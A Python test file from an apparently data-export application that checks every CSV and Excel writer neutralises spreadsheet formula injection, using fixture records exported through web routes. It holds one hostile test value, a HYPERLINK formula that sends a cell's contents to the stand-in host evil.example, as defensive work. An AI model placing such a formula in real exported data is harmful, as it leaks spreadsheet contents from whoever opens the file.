"""No sheet that leaves the program holds text that a spreadsheet would run: every writer there is."""

import csv
import io
import re
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

import throughline
from throughline.cli.output import as_csv
from throughline.kernel.testing.resource_cases import signed_in, text_of
from throughline.kernel.testing.rounds import make_return
from throughline.kernel.testing.worlds import World, make_incident
from throughline.kernel.text import defused

HERE = Path(throughline.__file__).parent
RUN = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SIGNS = ("=", "+", "-", "@", "\t", "\r")
# Writers of CSV that write words and numbers of ours alone.
OURS = {"portal/opendata.py": "_plain"}


def modules(word: str) -> dict[str, str]:
    """Every module of the program, tests left out, that holds this word: its path and text."""
    found = {str(path.relative_to(HERE)): path.read_text(encoding="utf-8") for path in HERE.rglob("*.py")}
    return {
        name: text for name, text in found.items() if word in text and "/tests/" not in name and "testing/" not in name
    }


def test_every_writer_of_csv_defuses() -> None:
    writers = modules("csv.writer(") | modules("csv.DictWriter(")
    assert len(writers) >= 7
    assert [name for name, text in writers.items() if "defused(" not in text and OURS.get(name, "\0") not in text] == []


def test_every_writer_of_workbooks_writes_text_as_text() -> None:
    writers = modules("Workbook(")
    opened = {name: text for name, text in writers.items() if re.search(r"(?<!Calamine)\bWorkbook\(\w", text)}
    assert len(opened) >= 5
    assert [name for name, text in opened.items() if '"strings_to_formulas": False' not in text] == []
    assert [name for name, text in opened.items() if '"strings_to_urls": False' not in text] == []


@pytest.mark.parametrize("sign", SIGNS)
def test_a_sign_is_defused_and_a_number_is_not(sign: str) -> None:
    assert (defused(f"{sign}1"), defused(-1), defused("1-1")) == (f"'{sign}1", -1, "1-1")


def test_the_command_line_defuses_too() -> None:
    assert list(csv.reader(io.StringIO(as_csv([{"name": RUN, "count": -1}], ["name", "count"])))) == [
        ["name", "count"],
        [f"'{RUN}", "-1"],
    ]


def test_answers_of_a_round_go_out_as_text(world: World) -> None:
    ret = make_return(
        world, answers={"seizures/seized": "1", "law/status": "drafted", "law/progress": RUN}, state="accepted"
    )
    sofia = signed_in(world, "sofia")
    sheet = text_of(sofia.get(f"/rounds/{ret.round.reference}/answers.csv"))
    rows = list(csv.reader(io.StringIO(sheet)))
    assert [cell for row in rows for cell in row if cell.startswith(SIGNS)] == []
    assert any(f"'{RUN}" in row for row in rows)
    answer = sofia.get(f"/rounds/{ret.round.reference}/answers.xlsx")
    content = answer.getvalue()
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    cells = [cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row]
    assert RUN in cells


def test_places_of_incidents_go_out_as_text(world: World) -> None:
    make_incident(world, place=RUN)
    alice = signed_in(world, "alice")
    rows = list(csv.reader(io.StringIO(text_of(alice.get("/incidents/export.csv")))))
    book = CalamineWorkbook.from_filelike(io.BytesIO(alice.get("/incidents/export.xlsx").getvalue()))
    assert f"'{RUN}" in rows[1]
    assert RUN in book.get_sheet_by_index(0).to_python()[1]
